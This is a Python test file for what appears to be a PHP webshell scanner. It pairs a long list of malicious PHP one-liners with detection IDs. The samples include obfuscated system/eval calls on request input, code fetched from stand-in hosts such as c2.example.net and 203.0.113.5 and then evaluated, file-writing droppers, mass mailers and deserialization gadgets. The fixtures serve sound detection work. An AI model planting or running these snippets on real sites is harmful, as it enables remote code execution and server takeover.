"""The PHP taint analysis: flows that no regex sees are caught, guarded input is not reported."""

from __future__ import annotations

import base64

import pytest

from webhunt.detect.document import Document
from webhunt.detect.semantic import SemanticLayer, aes
from webhunt.detect.semantic.layer import PhpAnalyses
from webhunt.detect.semantic.php_data import json_literal, json_string_literal, unserialize_literal
from webhunt.detect.semantic.transforms import Budget, fold_call, php_float_str, str_increment
from webhunt.model import FileContext, Language, Layer, Reason, Verdict

CODE, CMD, DYN, INC, WRITE, UPLOAD, HIDDEN, RELAY, DECODED = (
    "WH-S-PHP-001",
    "WH-S-PHP-002",
    "WH-S-PHP-003",
    "WH-S-PHP-004",
    "WH-S-PHP-005",
    "WH-S-PHP-006",
    "WH-S-PHP-008",
    "WH-S-PHP-010",
    "WH-S-PHP-011",
)


def analyse(code: str, relpath: str = "x.php", layer: SemanticLayer | None = None) -> list[Reason]:
    data = code.encode("latin-1")
    ctx = FileContext(relpath=relpath, language=Language.PHP, size=len(data))
    return (layer or SemanticLayer())(Document(data), ctx, _no_rescan)


def _no_rescan(data: bytes, ctx: FileContext) -> Verdict:
    raise AssertionError("the semantic layer never re-scans")


def ids(reasons: list[Reason]) -> set[str]:
    return {r.id for r in reasons}


MALICIOUS = [
    ("direct", "<?php system($_GET['c']);", CMD),
    ("renamed", "<?php $a = $_POST['k']; $b = $a; $c = $b; passthru($c);", CMD),
    ("built name", "<?php $f = 'sys' . 'tem'; $f($_REQUEST['x']);", CMD),
    ("strrev", "<?php $f = strrev('tressa'); $f($_GET['z']);", CODE),
    ("chr", "<?php $f = chr(101).chr(120).chr(101).chr(99); $f($_GET['z']);", CMD),
    ("hex escape", '<?php $f = "\\x70\\x61\\x73\\x73\\x74\\x68\\x72\\x75"; $f($_GET[1]);', CMD),
    ("base64 name", "<?php $f = base64_decode('c3lzdGVt'); $f($_COOKIE['c']);", CMD),
    ("list with a skipped slot", "<?php list(, $c) = [1, $_POST['c']]; system($c);", CMD),
    ("keyed list", "<?php ['f' => $f, 'a' => $a] = ['a' => $_GET['a'], 'f' => 'assert']; $f($a);", CODE),
    ("nested list", "<?php [[, $f], [$a]] = [[0, 'system'], [$_POST['z']]]; $f($a);", CMD),
    (
        "request body copied out, then included",
        "<?php $t = tempnam('/tmp', 'x'); copy('php://input', $t); include $t;",
        CODE,
    ),
    (
        "upload moved to a work file, then required",
        "<?php $t = tempnam('/tmp', 'x'); move_uploaded_file($_FILES['f']['tmp_name'], $t); require $t;",
        CODE,
    ),
    (
        "Laravel request helper",
        "<?php Route::post('/s', function () { $c = request('c'); return shell_exec($c); });",
        CMD,
    ),
    (
        "typed request parameter",
        "<?php class D { function run(Request $r) { $x = $r->query->get('c'); eval($x); } }",
        CODE,
    ),
    (
        "CodeIgniter input",
        "<?php class T extends CI_Controller { function i() { $c = $this->input->post('c'); system($c); } }",
        CMD,
    ),
    ("Yii request", "<?php $p = Yii::$app->request->post('p'); passthru($p);", CMD),
    (
        "request facade",
        "<?php use Illuminate\\Support\\Facades\\Request; $c = Request::input('c'); exec($c);",
        CMD,
    ),
    (
        "template method",
        "<?php class B { function run($x) { $f = $this->t(); return $f($x); } function t() { return 'trim'; } }"
        " class I extends B { function t() { return 'system'; } } (new I)->run($_POST['x']);",
        CMD,
    ),
    (
        "characters printed in a loop",
        "<?php $f = ''; foreach ([101, 120, 101, 99] as $n) $f .= sprintf('%c', $n); $f($_GET['c']);",
        CMD,
    ),
    ("vsprintf of pieces", "<?php $f = vsprintf('%s%s', ['sys', 'tem']); $f($_POST['c']);", CMD),
    ("character code as a sum", "<?php $f = chr(array_sum([100, 15])) . 'ystem'; $f($_POST['c']);", CMD),
    (
        "length arithmetic",
        "<?php $n = strlen('abc') + 3; $f = str_pad('sys', $n, 'tem'); $f($_GET['c']);",
        CMD,
    ),
    ("sscanf pieces", "<?php [$f, $a] = sscanf($_GET['q'], '%s %s'); $f($a);", DYN),
    ("strtok token", "<?php $t = strtok($_POST['q'], ' '); shell_exec($t);", CMD),
    ("pecl_http request body", "<?php $b = http_get_request_body(); eval($b);", CODE),
    ("parameter default", "<?php function f($x, $g = 'system') { $g($x); } f($_GET['c']);", CMD),
    (
        "promoted constructor default",
        "<?php class R { function __construct(private $fn = 'exec') {} function go($a) { ($this->fn)($a); } }"
        " (new R())->go($_POST['a']);",
        CMD,
    ),
    (
        "interface constant",
        "<?php interface H { const F = 'assert'; } class X implements H { function h($c) { $f = static::F;"
        " $f($c); } } (new X)->h($_GET['c']);",
        CODE,
    ),
    ("str_replace", "<?php $f = str_replace('x', '', 'sxyxsxtxexm'); $f($_GET['a']);", CMD),
    (
        "SQL console on the client's server",
        "<?php $l = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']); mysqli_query($l, $_POST['q']);",
        "WH-S-PHP-015",
    ),
    (
        "SQL console whose connection string is written around the request's host and account",
        "<?php $c = 'host=' . $_POST['h'] . ' user=' . $_POST['u'] . ' password=' . $_POST['p'];"
        " $l = pg_connect($c); $r = pg_query($l, $_POST['q']); while ($w = pg_fetch_row($r)) echo $w[0];",
        "WH-S-PHP-015",
    ),
    (
        "SQL console through PDO, the DSN built from the request's host",
        "<?php $d = new PDO('mysql:host=' . $_POST['h'] . ';dbname=' . $_POST['db'], $_POST['u'], $_POST['p']);"
        " foreach ($d->query($_POST['sql']) as $r) print_r($r);",
        "WH-S-PHP-015",
    ),
    (
        "SQL console through PDO",
        "<?php $d = new PDO($_GET['dsn'], 'root', ''); foreach ($d->query($_GET['sql']) as $r) print_r($r);",
        "WH-S-PHP-015",
    ),
    (
        "code from a fixed host, the address finished at run time",
        "<?php while (1) { $c = @file_get_contents('http://c2.example.net/t.php?id=' . gethostname()); if ($c) eval($c); sleep(60); }",
        CODE,
    ),
    (
        "filter_var with no filter",
        "<?php $c = filter_var($_POST['c'], FILTER_UNSAFE_RAW); passthru($c);",
        CMD,
    ),
    ("extension named by the request", "<?php if (!extension_loaded('x')) { dl($_GET['e']); }", CODE),
    (
        "function table searched by name",
        "<?php $t = get_defined_functions()['internal']; $t[array_search(strrev('metsys'), $t)]($_GET['a']);",
        CMD,
    ),
    (
        "xor strings",
        "<?php $f = ('9' ^ 'X') . ('3' ^ '@') . ('3' ^ '@') . ('%' ^ '@') . ('2' ^ '@') . ('4' ^ '@'); $f($_GET[0]);",
        CODE,
    ),
    (
        "xor of a hex table entry looked up by the file's own name with a key glued from that name",
        "<?php $k = substr(__FILE__, -5, -4); $t = ['r' => '13', 's' => '12'];"
        " $f = pack('H*', $t[$k] . '3f120b1655') ^ $k . 'Land!';"
        " array_intersect_uassoc([$_REQUEST['p'] => ''], [1], $f);",
        DYN,
    ),
    ("implode", "<?php $f = implode('', ['as', 'se', 'rt']); $f($_GET[0]);", CODE),
    (
        "string index",
        "<?php $s = 'abcdefghijklmnopqrstuvwxyz'; $f = $s[4].$s[21].$s[0].$s[11]; $f($_GET[0]);",
        CODE,
    ),
    ("concat assign", "<?php $c = 'ls '; $c .= $_GET['d']; echo shell_exec($c);", CMD),
    # cleaned only in a branch: the value from before the ``if`` still reaches the command
    (
        "cleaned in one branch only",
        "<?php $c = $_GET['d']; if (isset($_GET['safe'])) { $c = preg_replace('/[^a-z]/', '', $c); } system($c);",
        CMD,
    ),
    # the check on one parameter says nothing of the other one joined to it
    (
        "checked parameter beside an unchecked one",
        "<?php $a = $_GET['a']; $b = $_GET['b']; $c = $a . ' ' . $b; if ($a === 'ping') { system($c); }",
        CMD,
    ),
    # a check that no longer holds where the command runs
    (
        "checked only in an earlier branch",
        "<?php $s = $_GET['s']; $p = 'ls ' . $s; if ($s == 'a') { echo 1; } system($p);",
        CMD,
    ),
    # input handed whole to code defined elsewhere may come back: still followed
    (
        "input through a static call of another file",
        "<?php $c = Tool::prepare($_GET['c']); system($c);",
        CMD,
    ),
    # a loop inside the branch may run no time: the value read in the branch stays
    (
        "cleaned in a loop of the branch",
        "<?php if ($_GET) { $c = $_GET['d']; foreach ($_GET as $k => $v) { $c = 'ls'; } system($c); }",
        CMD,
    ),
    ("interpolation", '<?php $d = $_GET["d"]; $c = "ls {$d}"; echo `$c`;', CMD),
    ("array element", "<?php $a = ['x' => $_POST['p']]; eval($a['x']);", CODE),
    ("list()", "<?php list($x, $y) = [$_POST['a'], 1]; system($x);", CMD),
    ("extract", "<?php extract($_REQUEST); eval($code);", CODE),
    ("extract overwrites", "<?php $cmd = 'date'; extract($_POST); system($cmd);", CMD),
    ("parse_str global", "<?php parse_str($_SERVER['QUERY_STRING']); passthru($c);", CMD),
    ("parse_str result", "<?php parse_str(file_get_contents('php://input'), $o); assert($o['a']);", CODE),
    ("$$ from foreach", "<?php foreach ($_POST as $k => $v) { $$k = $v; } system($cmd);", CMD),
    ("dynamic superglobal", "<?php $p = ${'_PO' . 'ST'}; eval($p['c']);", CODE),
    ("GLOBALS", "<?php $g = $GLOBALS['_GET']; system($g['c']);", CMD),
    ("getallheaders", "<?php $h = getallheaders(); system($h['X-C']);", CMD),
    ("server header", "<?php eval($_SERVER['HTTP_X_CODE']);", CODE),
    ("php input", "<?php $r = file_get_contents('php://input'); eval($r);", CODE),
    (
        "php input spelt in pieces",
        "<?php $w = 'php:' . '//' . 'inp' . 'ut'; $b = file_get_contents($w); $f = 'sys' . 'tem'; $f($b);",
        CMD,
    ),
    (
        "php input joined from a list",
        "<?php $w = implode('', ['ph', 'p:/', '/in', 'put']); $f = 'ass' . 'ert'; $f(file_get_contents($w));",
        CODE,
    ),
    ("call_user_func", "<?php call_user_func('assert', $_POST['x']);", CODE),
    ("array_map built", "<?php array_map('sys' . 'tem', [$_GET['x']]);", CMD),
    ("array_filter", "<?php array_filter([$_GET['x']], 'passthru');", CMD),
    ("callback chosen", "<?php $a = [$_POST['d']]; usort($a, $_POST['f']);", DYN),
    ("variable function", "<?php $_GET['f']($_GET['a']);", DYN),
    ("call_user_func_array", "<?php call_user_func_array('system', [$_COOKIE['c']]);", CMD),
    ("closure", "<?php $f = function ($x) { return system($x); }; $f($_GET['c']);", CMD),
    ("arrow fn", "<?php $f = fn($x) => shell_exec($x); echo $f($_GET['c']);", CMD),
    ("create_function", "<?php $f = create_function('$a', 'ev' . 'al($a);'); $f($_POST['p']);", CODE),
    ("create_function body", "<?php create_function('', $_POST['b']);", CODE),
    ("reflection", "<?php $r = new ReflectionFunction('system'); $r->invoke($_GET['c']);", CMD),
    ("reflection name", "<?php $r = new ReflectionFunction($_GET['f']); $r->invoke(1);", DYN),
    ("fromCallable", "<?php $c = Closure::fromCallable('exec'); $c($_GET['c']);", CMD),
    ("dynamic method", "<?php $o = new Foo(); $m = $_GET['m']; $o->$m($_GET['a']);", DYN),
    (
        "helper functions",
        "<?php function a($x) { return b($x); } function b($y) { system($y); } a($_GET['q']);",
        CMD,
    ),
    (
        "method helper",
        "<?php class T { function run($c) { return passthru($c); } } $t = new T(); $t->run($_GET['c']);",
        CMD,
    ),
    (
        "destructor",
        "<?php class K { public $c; function __destruct() { eval($this->c); } } $k = new K(); $k->c = $_POST['x'];",
        CODE,
    ),
    (
        "constructor field",
        "<?php class K { private $c; function __construct($c) { $this->c = $c; } function __destruct() { system($this->c); } } new K($_GET['c']);",
        CMD,
    ),
    (
        "__invoke",
        "<?php class J { function __invoke($l) { return system($l); } } $j = new J(); $j($_GET['l']);",
        CMD,
    ),
    (
        "array callable",
        "<?php class E { static function r($t) { eval($t); } } call_user_func(['E', 'r'], $_POST['t']);",
        CODE,
    ),
    # functions that are not entry points (no source of their own) are summarised when reached
    (
        "field read by a method nobody calls",
        "<?php class H { function __construct() { $this->c = $_POST['c']; } function run() { system($this->c); } } new H();",
        CMD,
    ),
    (
        "global read by a helper",
        "<?php function go() { global $cmd; passthru($cmd); } $cmd = $_GET['c']; go();",
        CMD,
    ),
    (
        "helper chain without sources",
        "<?php function a($x) { return b($x); } function b($y) { return c($y); } function c($z) { return shell_exec($z); } echo a($_REQUEST['q']);",
        CMD,
    ),
    (
        "recursive helper",
        "<?php function r($s, $n) { return $n ? r($s, $n - 1) : $s; } eval(r($_POST['p'], 3));",
        CODE,
    ),
    (
        "unserialize gadget",
        "<?php class G { public $f; function __wakeup() { system($this->f); } } unserialize($_COOKIE['g']);",
        CMD,
    ),
    ("eval of constant code", "<?php $c = $_POST['x']; eval(base64_decode('c3lzdGVtKCRjKTs='));", CMD),
    ("include input", "<?php include $_GET['page'];", INC),
    ("include upload", "<?php require $_FILES['f']['tmp_name'];", INC),
    ("preg_replace e", "<?php preg_replace('/x/e', $_POST['c'], 'x');", CODE),
    ("write script", "<?php file_put_contents('cache.php', $_POST['data']);", WRITE),
    ("write chosen path", "<?php file_put_contents($_GET['n'], $_POST['d']);", WRITE),
    ("fwrite script", "<?php $h = fopen('x.php', 'w'); fwrite($h, $_POST['d']);", WRITE),
    (
        "script ending written in pieces",
        "<?php file_put_contents(md5(time()) . '.ph' . 'p', file_get_contents('php://input'));",
        WRITE,
    ),
    ("upload name", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);", UPLOAD),
    ("upload moved to a script name", "<?php move_uploaded_file($userfile, 'x.php');", WRITE),
    (
        "register_globals form field",
        "<?php if ($target != '') { $h = fopen($target, 'w'); fwrite($h, $body); } ?>"
        "<form method='post'><input name='target'><textarea name='body'></textarea></form>",
        WRITE,
    ),
    (
        "register_globals link parameter",
        '<?php if ($go) { system($go); } ?><a href="shell.php?go=uptime">uptime</a>',
        CMD,
    ),
    ("old script tag", '<script language="php">$c = $_GET["c"]; system($c);</script>', CMD),
    ("output buffer callback", "<?php $f = 'sys' . 'tem'; ob_start($f); echo $_POST['c'];", CMD),
    ("bareword name", "<?php $f = (sy.(st).(em)); $f($_GET['c']);", CMD),
    ("name tail completes a sink", "<?php $f = $_COOKIE['h'] . 'ert'; $f($_POST['c']);", DYN),
    ("comparison callback", "<?php array_udiff_assoc([$_POST['c']], [1], 'assert');", CODE),
    ("remote code", "<?php eval(file_get_contents('https://203.0.113.5/x.txt'));", CODE),
    ("remote dropper", "<?php copy('http://203.0.113.5/s.txt', 'cache.php');", WRITE),
    (
        "remote code read with comments before its parenthesis",
        "<?=/**/@null; @eval/***/('?>' . file_get_contents/****/('https://203.0.113.5/m.php'));",
        CODE,
    ),
    (
        "remote address kept in a variable, comments around the read",
        "<?php $u = /* u */ 'https://203.0.113.5/x.txt'; eval('?>' . file_get_contents /**/ ($u));",
        CODE,
    ),
    ("remote script included", "<?php include 'http://203.0.113.5/s.txt';", CODE),
    ("remote script required with a comment", "<?php require_once/**/('https://203.0.113.5/s.php');", CODE),
    (
        "constructor run through ReflectionClass",
        "<?php class T { function __construct($p, $v) { $p($v); } }"
        " $c = new ReflectionClass('T'); $c->newInstance($_POST['k'], $_POST['v']);",
        DYN,
    ),
    (
        "trait method before an inherited one",
        "<?php trait D { function eat($a, $b) { $a($b); } } class A { function eat() { echo 1; } }"
        " class C extends A { use D; } $c = new C(); $c->eat($_POST['k'], $_POST['v']);",
        DYN,
    ),
    (
        "SplFileObject writer",
        "<?php $f = new SplFileObject($_GET['n'], 'w'); $f->fwrite($_POST['c']);",
        WRITE,
    ),
    (
        "curl fetch of a chosen URL",
        "<?php $h = curl_init($_GET['u']); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);"
        " file_put_contents($_GET['n'], curl_exec($h));",
        WRITE,
    ),
    (
        "curl handle given its URL later",
        "<?php $h = curl_init(); curl_setopt($h, CURLOPT_URL, $_POST['u']); $f = fopen('t.php', 'w');"
        " fwrite($f, curl_exec($h));",
        WRITE,
    ),
    (
        "fetch helper called with a remote URL",
        "<?php function get($u) { $h = curl_init($u); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);"
        " return curl_exec($h); } $t = get('http://203.0.113.5/s.txt');"
        " $f = fopen($_SERVER['DOCUMENT_ROOT'] . '/x.php', 'w'); fwrite($f, $t);",
        WRITE,
    ),
    (
        "curl remote code",
        "<?php $h = curl_init(); curl_setopt($h, \\CURLOPT_URL, 'http://203.0.113.5/x.txt');"
        " eval('?>' . curl_exec($h));",
        CODE,
    ),
    (
        "fetch helper given an address without an extension, its answer run as a script",
        "<?php function pull($u) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u);"
        " curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }"
        " $t = pull('https://203.0.113.5/k3x9/raw'); echo eval('?>' . (($t)));",
        CODE,
    ),
    (
        "fetch class given an address built in pieces through its constructor",
        "<?php class Src { private $u; function __construct($u) { $this->u = $u; }"
        " function body() { if (ini_get('allow_url_fopen')) { return file_get_contents($this->u); }"
        " return false; } } $p = 'https'; $h = '203.0.113.5/kit'; $s = new Src($p . '://' . $h . '/t.txt');"
        " $c = $s->body(); if ($c !== false) { eval('?>' . $c); }",
        CODE,
    ),
    (
        "superglobals by name",
        "<?php foreach (['_GET', '_POST'] as $s) { foreach ($$s as $k => $v) { $k($v); } }",
        DYN,
    ),
    ("braced superglobal in a string", "<?php exec(\"ping -c 1 ${_POST['h']}\");", CMD),
    ("braced array element in a string", "<?php $a = ['x' => $_GET['c']]; system(\"ls ${a['x']}\");", CMD),
    (
        "a validator that validates nothing",
        "<?php function ok($x) { return strlen($x) > 0; } $c = $_GET['c']; if (!ok($c)) { die(); } system($c);",
        CMD,
    ),
    (
        "field rewritten by a method the code calls",
        "<?php class R { public $cmd = 'ls'; function set() { $this->cmd = $_GET['c']; }"
        " function run() { $this->cmd = 'id'; $this->set(); system($this->cmd); } } (new R())->run();",
        CMD,
    ),
    (
        "global assigned by a function",
        "<?php function f($x) { global $g; $g = $x; } f($_POST['a']); eval($g);",
        CODE,
    ),
    (
        "$GLOBALS assigned by a function",
        "<?php function f($x) { $GLOBALS['g'] = $x; } f($_POST['a']); eval($g);",
        CODE,
    ),
    (
        "output handed to a closure that keeps it in a global",
        "<?php $s = ''; ob_start(function ($c) { global $s; $s = $c; }); echo $_REQUEST['p'];"
        " ob_end_flush(); assert($s);",
        CODE,
    ),
    ("escaped input that is the whole command", "<?php $c = escapeshellcmd($_GET['c']); passthru($c);", CMD),
    ("argv of a web request", "<?php $q = $_SERVER['argv'][0]; system($q);", CMD),
    (
        "a copy of $_SERVER where the process title is only mentioned",
        "<?php $e = $_SERVER; echo 'cli_set_process_title'; system($e['HTTP_X_C']);",
        CMD,
    ),
    (
        "a header run by a script that only checks for the title function",
        "<?php if (function_exists('cli_set_process_title')) { echo 1; } system($_SERVER['HTTP_X_C']);",
        CMD,
    ),
    (
        "COM shell object under a split ProgID",
        "<?php $w = new COM('WS' . 'crip' . 't.Sh' . 'ell'); $w->exec('cmd /c ' . $_POST['c']);",
        CMD,
    ),
    (
        "COM shell object under a reversed ProgID",
        "<?php $a = new COM(strrev('noitacilppA.llehS')); $a->ShellExecute('cmd.exe', '/c ' . $_GET['c']);",
        CMD,
    ),
    ("backticks", "<?php $c = $_GET['c']; echo `$c`;", CMD),
    ("comments inside call", "<?php eval/* a */(/* b */$_POST/* c */['p']);", CODE),
    ("elvis", "<?php $c = $_GET['c'] ?: 'id'; system($c);", CMD),
    ("null coalescing", "<?php $c = $_GET['c'] ?? 'id'; system($c);", CMD),
    ("loop carried", "<?php $c = ''; foreach ([1, 2] as $i) { system($c); $c = $_GET['c']; }", CMD),
    (
        "session round trip",
        "<?php if (isset($_SESSION['p'])) { eval($_SESSION['p']); } else { $_SESSION['p'] = $_POST['p']; }",
        CODE,
    ),
    (
        "request body regex",
        "<?php preg_match('/<(.+)>/', file_get_contents('php://input'), $m); assert($m[1]);",
        CODE,
    ),
    ("bitwise not", "<?php $f = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $f($_POST['o']);", CMD),
    (
        "request body parsed by hand, written under the name it carries",
        "<?php $raw = file_get_contents('php://input'); preg_match('/filename=\"([^\"]+)\"/', $raw, $m);"
        " $p = explode(\"\\r\\n\\r\\n\", $raw, 2); $fp = fopen(__DIR__ . '/' . $m[1], 'wb'); fwrite($fp, $p[1]);",
        WRITE,
    ),
    (
        "download helper saving under the URL's own name (a default parameter, pathinfo)",
        "<?php function fetch($url, $file = '') { $file = empty($file) ? pathinfo($url, PATHINFO_BASENAME) : $file;"
        " $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);"
        " file_put_contents($file, curl_exec($ch)); return $file; }"
        " echo fetch('http://203.0.113.9/themes/t/temp1.php');",
        WRITE,
    ),
    (
        "input left by one branch of an if/else",
        "<?php if ($_GET['a']) { $c = $_POST['c']; } else { $c = 'uptime'; } system($c);",
        CMD,
    ),
    (
        "a switch inside a branch keeps what the variable held before",
        "<?php $a = $_GET['x']; if ($c) { switch ($k) { case 1: $a = 'date'; break;"
        " default: $a = 'uptime'; } } system($a);",
        CMD,
    ),
    (
        "input assigned by a case that falls through",
        "<?php $a = 'id'; switch ($_GET['m']) { case 'r': $a = $_POST['c']; case 'w': echo 1; break; } system($a);",
        CMD,
    ),
    (
        "allowed method of a class the file defines, given input",
        "<?php class Tools { function ping($h) { return 1; } function run($c) { eval($c); } }"
        " $t = new Tools(); $m = $_GET['m']; if (method_exists($t, $m)) { $t->$m($_POST['c']); }",
        CODE,
    ),
    (
        "name built by a foreach over character codes",
        "<?php $s = ''; foreach (array(115, 121, 115, 116, 101, 109) as $c) { $s .= chr($c); } $s($_GET['c']);",
        CMD,
    ),
    (
        "name built by a foreach that decodes each hex piece",
        "<?php $s = ''; foreach (array('7379', '7374', '656d') as $h) { $s .= hex2bin($h); } $s($_GET['c']);",
        CMD,
    ),
    (
        "name built by a foreach over pieces with keys",
        "<?php $n = ''; foreach (['a' => 'pass', 'b' => 'thru'] as $k => $p) $n .= $p; $n($_POST['x']);",
        CMD,
    ),
    ("variable names in UTF-8", "<?php $\xd1\x84 = 'sys' . 'tem'; $\xd1\x84($_COOKIE['c']);", CMD),
    (
        "include behind php://filter",
        "<?php include 'php://filter/read=convert.base64-decode/resource=' . $_GET['f'];",
        INC,
    ),
    ("include of an archive member the request names", "<?php require 'zip://up/a.zip#' . $_GET['e'];", INC),
    ("include of inline data", "<?php include 'data://text/plain;base64,' . $_POST['t'];", INC),
    (
        "include of inline data the input was encoded into",
        "<?php $c = '<?php ' . $_GET['a']; include 'data://text/plain;base64,' . base64_encode($c);",
        INC,
    ),
    (
        "SQL function mapped to a callable the request names",
        "<?php $db = new SQLite3(':memory:'); $db->createFunction('f', $_POST['cb']);",
        DYN,
    ),
    (
        "superglobal name from characters of constant comparisons",
        "<?php $k = '_' . chr(ord(2 > 1) + 22) . chr(69 + (1 === 1) - 1) . 'T'; echo `{${$k}['c']}`;",
        CMD,
    ),
    (
        "mass mailer",
        "<?php $l = explode(\"\\n\", $_POST['list']); foreach ($l as $to) {"
        " mail(trim($to), $_POST['subject'], $_POST['body'], 'From: ' . $_POST['from']); }",
        RELAY,
    ),
    (
        "mass mailer: posted subject and body led by the input, a tag appended to each",
        "<?php $l = $_POST['emails']; $a = explode(\"\\n\", $l); $i = 0; while ($a[$i]) {"
        " mail($a[$i], $_POST['s'] . ' #' . rand(1, 99), $_POST['b'] . '<br>' . date('c'), ''); $i++; }",
        RELAY,
    ),
    (
        "function names spelt as a constant query string for parse_str()",
        "<?php parse_str('0=%73%79%73%74%65%6d&1=x', $f); $f[0]($_GET['c']);",
        CMD,
    ),
    (
        "a key repeated in parse_str()'s constant query string holds its last value",
        "<?php parse_str('0=trim&1=x&0=%73%79%73%74%65%6d', $f); $f[0]($_GET['c']);",
        CMD,
    ),
    (
        "remote file copied under a name the request chose",
        "<?php copy($_GET['u'], $_SERVER['DOCUMENT_ROOT'] . '/' . basename($_GET['n']));",
        UPLOAD,
    ),
    (
        "filter_var with FILTER_CALLBACK named by the request",
        "<?php echo filter_var($_GET['d'], FILTER_CALLBACK, array('options' => $_GET['f']));",
        DYN,
    ),
    (
        "request body copied into a stream the request names",
        "<?php $o = fopen($_SERVER['DOCUMENT_ROOT'] . '/' . $_SERVER['HTTP_X_NAME'], 'wb');"
        " stream_copy_to_stream(fopen('php://input', 'rb'), $o);",
        WRITE,
    ),
    (
        "temporary file written with input, then included",
        "<?php $t = tempnam(sys_get_temp_dir(), 'x'); file_put_contents($t, '<?php ' . $_POST['c']);"
        " include $t; unlink($t);",
        CODE,
    ),
    (
        "image metadata chooses the function and its argument",
        "<?php $e = exif_read_data('a.jpg'); $f = $e['Make']; $f($e['Model']);",
        DYN,
    ),
    (
        "image metadata used as a preg_replace pattern",
        "<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');",
        CODE,
    ),
    (
        "global named with escapes, then called",
        '<?php $GLOBALS["\\x5f\\x66"] = "sys" . "tem"; $GLOBALS["_f"]($_GET["c"]);',
        CMD,
    ),
    (
        "name translated by strtr with a table",
        "<?php $f = strtr('qwqzkm', array('q' => 's', 'w' => 'y', 'z' => 't', 'k' => 'e'));"
        " $f($_SERVER['HTTP_X_C']);",
        CMD,
    ),
    (
        "ReflectionFunction made through ReflectionClass",
        "<?php $r = (new ReflectionClass('ReflectionFunction'))->newInstance($_GET['f']); $r->invoke($_GET['a']);",
        DYN,
    ),
    (
        "statements shuffled and joined by goto",
        "<?php goto a; b: $f($_GET['c']); exit; a: $f = 'sys' . 'tem'; goto b;",
        CMD,
    ),
    (
        "goto to a label an if jumps to",
        "<?php goto s; e: eval($d); exit; s: $d = $_POST['p']; if ($d) { goto e; } echo 'no';",
        CODE,
    ),
    (
        "ArrayObject sorted with a request-chosen callable",
        "<?php $a = new ArrayObject(array('x', $_POST['a'])); $a->uasort($_GET['f']);",
        DYN,
    ),
    (
        "download helper given a URL literal and each method name in turn",
        "<?php function get($u, $m) { if ($m == 'curl') { $c = curl_init($u); return curl_exec($c); }"
        " return file_get_contents($u); }"
        " foreach (array('curl', 'fgc') as $m) { $d = get('https://x.example/p.txt', $m); } eval('?>' . $d);",
        CODE,
    ),
    ("expect wrapper", "<?php $h = fopen('expect://' . $_GET['c'], 'r'); echo fread($h, 4096);", CMD),
    ("expect wrapper read whole", "<?php echo file_get_contents(\"expect://{$_POST['c']}\");", CMD),
    ("error_log into a script", "<?php error_log($_POST['d'], 3, 'cache/x.php');", WRITE),
    ("error_log to a chosen file", "<?php error_log($_POST['d'], 3, $_POST['f']);", WRITE),
    (
        "upload kept under its own name in a folder the request chooses",
        "<?php $d = $_GET['dir']; move_uploaded_file($_FILES['f']['tmp_name'], $d . '/' . basename($_FILES['f']['name']));",
        UPLOAD,
    ),
    (
        "phar metadata into a gadget",
        "<?php class J { public $cb; public $a; function __destruct() { call_user_func($this->cb, $this->a); } }"
        " if (file_exists('phar://' . $_GET['p'] . '/x')) { echo 1; }",
        DYN,
    ),
    (
        "URL kept as hex pairs, decoded by a step-2 loop and fetched into eval",
        "<?php function h2s($h) { $s = ''; for ($i = 0; $i < strlen($h) - 1; $i += 2) {"
        " $s .= chr(hexdec($h[$i] . $h[$i + 1])); } return $s; }"
        " eval('?>' . file_get_contents(h2s('68747470733a2f2f782e6578616d706c652f702e747874')));",
        CODE,
    ),
    (
        "hex pairs read with substr and a spelt-out increment",
        "<?php function u($h) { $o = ''; for ($k = 0; $k < strlen($h); $k = $k + 2) {"
        " $o .= chr(hexdec(substr($h, $k, 2))); } return $o; } $f = u('73797374656d'); $f($_POST['c']);",
        CMD,
    ),
    (
        "payload shifted byte by byte in place after inflating",
        "<?php function d($s) { $s = gzinflate(base64_decode($s)); for ($i = 0; $i < strlen($s); $i++) {"
        " $s[$i] = chr(ord($s[$i]) - 1); } return $s; } $f = d('K6kqKU3LAwA='); $f($_GET['x']);",
        CMD,
    ),
    (
        "table of hex-encoded function names decoded by a loop, called by index",
        "<?php $t = array('66696c655f7075745f636f6e74656e7473', '6d6b646972');"
        " for ($i = 0; $i < count($t); $i++) { $t[$i] = dx($t[$i]); } $t[0]($_POST['p'], $_POST['c']);"
        " function dx($h) { $r = ''; for ($i = 0; $i < strlen($h) - 1; $i += 2) {"
        " $r .= chr(hexdec($h[$i] . $h[$i + 1])); } return $r; }",
        WRITE,
    ),
    (
        "hex name table decoded into a new array by a getter reading it as a global",
        "<?php $tb = array('73797374656d', '66696c655f7075745f636f6e74656e7473');"
        " function nm($n) { global $tb; for ($i = 0; $i < count($tb); $i++) { $out[] = hex2bin($tb[$i]); }"
        " return $out[$n]; } nm(1)($_POST['p'], $_POST['c']); nm(0)($_POST['k']);",
        CMD,
    ),
    (
        "second entry of a hex name table decoded into a new array by a getter",
        "<?php $tb = array('73797374656d', '66696c655f7075745f636f6e74656e7473');"
        " function nm($n) { global $tb; for ($i = 0; $i < count($tb); $i++) { $out[] = hex2bin($tb[$i]); }"
        " return $out[$n]; } nm(0)('id'); nm(1)($_POST['p'], $_POST['c']);",
        WRITE,
    ),
    (
        "helper writing to the path it is handed, called with a request-chosen path",
        "<?php function q($n) { return isset($_GET[$n]) ? $_GET[$n] : false; }"
        " function save_as($path, $text) { if (is_file($path)) { file_put_contents($path, html_entity_decode($text)); } }"
        " save_as(q('file'), $_POST['text']);",
        WRITE,
    ),
    (
        "helper handing the path on to another helper that writes it",
        "<?php function put($p, $s) { file_put_contents($p, $s); } function store($to, $what) { put($to, $what); }"
        " store($_REQUEST['to'], $_REQUEST['what']);",
        WRITE,
    ),
    (
        "helper writing to the path it is handed, called with a script's name and a downloaded page",
        "<?php function put($p, $s) { return file_put_contents($p, $s); }"
        " put('index.php', file_get_contents('http://203.0.113.5/page?h=' . $_SERVER['HTTP_HOST']));",
        WRITE,
    ),
    (
        "helper opening the path it is handed for writing (the mode a defaulted parameter)",
        "<?php function keep($path, $data, $mode = 'wb') { if ($fp = @fopen($path, $mode)) {"
